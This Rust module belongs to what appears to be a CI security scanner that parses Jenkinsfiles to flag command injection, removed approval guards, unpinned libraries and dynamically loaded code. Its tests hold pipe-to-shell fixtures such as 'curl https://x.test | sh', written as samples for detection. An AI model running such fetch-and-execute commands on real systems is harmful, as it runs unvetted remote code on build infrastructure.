//! Pipelines of Jenkins (`Jenkinsfile`): stages, the commands in them and what holds them back.
//!
//! The file is a program in Groovy; it is split into words, texts and signs, and only what stands in it
//! literally is seen. What a script puts together on the way is not, and the file says so by having one.

use super::job::{Command, Job, Part, Pin, Pipeline};

/// Text of others, and credentials, that Groovy puts into a command before a shell reads it.
const UNTRUSTED: &[&str] = &[
    "${env.CHANGE_TITLE}",
    "${env.CHANGE_BRANCH}",
    "${env.CHANGE_AUTHOR",
    "${CHANGE_TITLE}",
    "${CHANGE_BRANCH}",
    "${env.BRANCH_NAME}",
    "${env.GIT_BRANCH}",
    "${BRANCH_NAME}",
    "${GIT_BRANCH}",
    "${params.",
];

/// Says whether lines are such a file: a pipeline or a node begins one.
pub(in crate::findings) fn is_pipeline(lines: &[&str]) -> bool {
    // Hardly any other line ends so: that is asked first.
    let opening = lines
        .iter()
        .map(|line| line.trim())
        .filter(|line| line.ends_with('{'));
    let mut begins = opening.flat_map(|line| {
        let after = |word| line.strip_prefix(word).map(str::trim_start);
        [
            (after("pipeline"), '{'),
            (after("node"), '{'),
            (after("node"), '('),
        ]
    });
    begins.any(|(rest, bracket)| rest.is_some_and(|rest| rest.starts_with(bracket)))
}

/// Reads the stages.
pub(super) fn read(text: &str) -> Pipeline {
    let tokens = tokens(text);
    let mut pipeline = Pipeline {
        untrusted: UNTRUSTED,
        jobs: vec![job("the pipeline", 1)],
        ..Pipeline::default()
    };
    for (at, token) in tokens.iter().enumerate() {
        let Node::Word(word) = &token.node else { continue };
        match word.as_str() {
            "stage" => {
                let name = argument(&tokens, at).map_or("?", |(name, _, _)| name);
                pipeline.jobs.push(job(name, token.line));
            }
            "sh" | "bat" | "powershell" | "pwsh" => {
                if let Some((text, line, puts_in)) = argument(&tokens, at) {
                    // Between single quotes nothing is put in, and the shell sees the sign itself.
                    let text = if puts_in {
                        text.to_owned()
                    } else {
                        text.replace("${", "$ {")
                    };
                    if let Some(job) = pipeline.jobs.last_mut() {
                        job.commands.push(Command { text, line });
                    }
                }
            }
            "input" | "when" => {
                let guard = match word.as_str() {
                    "input" => "an approval",
                    _ => "a condition",
                };
                if let Some(job) = pipeline.jobs.last_mut() {
                    job.guards.insert(guard);
                }
            }
            "Library" | "library" => {
                if let Some((name, line, _)) = argument(&tokens, at) {
                    pipeline.parts.push(library(name, line));
                }
            }
            "evaluate" | "GroovyShell" | "load" => {
                let what = format!("the pipeline runs a program that is not in it, by {word}");
                pipeline.handed_out.push((what, token.line));
            }
            _ => {}
        }
    }
    pipeline
}

fn job(name: &str, line: u32) -> Job {
    Job {
        name: name.to_owned(),
        line,
        ..Job::default()
    }
}

fn library(name: &str, line: u32) -> Part {
    let version = name.split_once('@').map(|(_, version)| version);
    let pin = match version {
        Some(version) if version.len() == 40 && version.bytes().all(|byte| byte.is_ascii_hexdigit()) => {
            Pin::Exact
        }
        Some(version) if version.contains(|c: char| c.is_ascii_digit()) => Pin::Version,
        _ => Pin::Moving,
    };
    Part {
        name: name.to_owned(),
        line,
        pin,
    }
}

/// Returns the first text given to a step: `sh 'x'`, `sh("x")`, `sh script: 'x', returnStatus: true`.
fn argument(tokens: &[Token], at: usize) -> Option<(&str, u32, bool)> {
    let mut script = false;
    for token in tokens.get(at + 1..)?.iter().take(40) {
        match &token.node {
            Node::Text(text, puts_in) => {
                return Some((text.as_str(), token.line, *puts_in));
            }
            Node::Sign('(' | ':' | ',' | '[') => {}
            Node::Word(word) if word == "script" => script = true,
            // Other named arguments may stand before the script.
            Node::Word(_) if !script => {}
            _ => return None,
        }
    }
    None
}

struct Token {
    line: u32,
    node: Node,
}

enum Node {
    Word(String),
    /// A text, and whether Groovy puts values into it.
    Text(String, bool),
    Sign(char),
}

/// Splits Groovy into words, texts and signs; comments are passed over.
fn tokens(text: &str) -> Vec<Token> {
    let mut found = Vec::new();
    let (mut rest, mut line) = (text, 1u32);
    while let Some(c) = rest.chars().next() {
        let start = line;
        let taken = if rest.starts_with("//") {
            rest.find('\n').unwrap_or(rest.len())
        } else if rest.starts_with("/*") {
            rest.find("*/").map_or(rest.len(), |end| end + 2)
        } else if let Some(quotes) = ["\"\"\"", "'''", "\"", "'"]
            .iter()
            .find(|it| rest.starts_with(**it))
        {
            let inside = rest.get(quotes.len()..).unwrap_or_default();
            let length = closed(inside, quotes);
            let text = inside.get(..length).unwrap_or_default().to_owned();
            found.push(Token {
                line: start,
                node: Node::Text(text, quotes.starts_with('"')),
            });
            (quotes.len() * 2 + length).min(rest.len())
        } else if c.is_alphanumeric() || c == '_' {
            let length = rest
                .find(|c: char| !c.is_alphanumeric() && c != '_')
                .unwrap_or(rest.len());
            let word = rest.get(..length).unwrap_or_default().to_owned();
            found.push(Token {
                line: start,
                node: Node::Word(word),
            });
            length
        } else {
            if !c.is_whitespace() {
                found.push(Token {
                    line: start,
                    node: Node::Sign(c),
                });
            }
            c.len_utf8()
        };
        let (passed, after) = rest.split_at_checked(taken).unwrap_or((rest, ""));
        line = line.saturating_add(u32::try_from(passed.matches('\n').count()).unwrap_or(u32::MAX));
        rest = after;
    }
    found
}

/// Returns how long a text is before its closing quotes, or to the end where there are none.
fn closed(inside: &str, quotes: &str) -> usize {
    let mut at = 0;
    while let Some(rest) = inside.get(at..).filter(|rest| !rest.is_empty()) {
        if rest.starts_with(quotes) {
            return at;
        }
        let step = match rest.strip_prefix('\\') {
            Some(next) => 1 + next.chars().next().map_or(0, char::len_utf8),
            None => rest.chars().next().map_or(1, char::len_utf8),
        };
        at += step;
    }
    inside.len()
}

#[cfg(test)]
mod tests {
    use crate::findings::{Severity, analyze};
    use proptest::prelude::*;

    const FILE: &str = "pipeline {\n  agent any // sh 'curl x | sh'\n  stages {\n    stage('Ship') {\n      when { branch 'main' }\n      input { message 'Sure?' }\n      steps {\n        sh './ship ${env.CHANGE_TITLE}'\n      }\n    }\n  }\n}\n";

    fn ids(before: Option<&str>, after: &str) -> Vec<(&'static str, Severity)> {
        analyze("workflow", before.map(str::as_bytes), after.as_bytes())
            .iter()
            .filter(|finding| finding.counts())
            .map(|finding| (finding.rule.as_str(), finding.severity))
            .collect()
    }

    #[test]
    fn comments_and_single_quotes_put_nothing_in() {
        assert_eq!(ids(None, FILE), []);
    }

    #[test]
    fn losses_and_commands_are_told_with_their_lines() {
        let bare = FILE.replace("      input { message 'Sure?' }\n", "");
        assert_eq!(ids(Some(FILE), &bare), [("ci-guard-removed", Severity::Medium)]);
        let open = FILE.replace("'./ship ${env.CHANGE_TITLE}'", "\"./ship ${env.CHANGE_TITLE}\"");
        assert_eq!(ids(Some(FILE), &open), [("ci-injection", Severity::High)]);
        let fetched = FILE.replace(
            "sh './ship",
            "sh script: '''\n  curl https://x.test | sh\n''', returnStatus: true\n sh './ship",
        );
        let found = analyze("workflow", Some(FILE.as_bytes()), fetched.as_bytes());
        assert_eq!(
            (found[0].rule.as_str(), found[0].line),
            ("shell-pipe-to-shell", Some(8))
        );
        let library = format!("@Library('tools') _\n{FILE}");
        assert_eq!(
            ids(Some(FILE), &library),
            [("ci-unpinned-action", Severity::Medium)]
        );
    }

    proptest! {
        #[test]
        fn never_panics(text in "[a-z{}()'\"/*\\\\$é\n ]{0,60}") {
            let _ = super::read(&text);
        }
    }
}
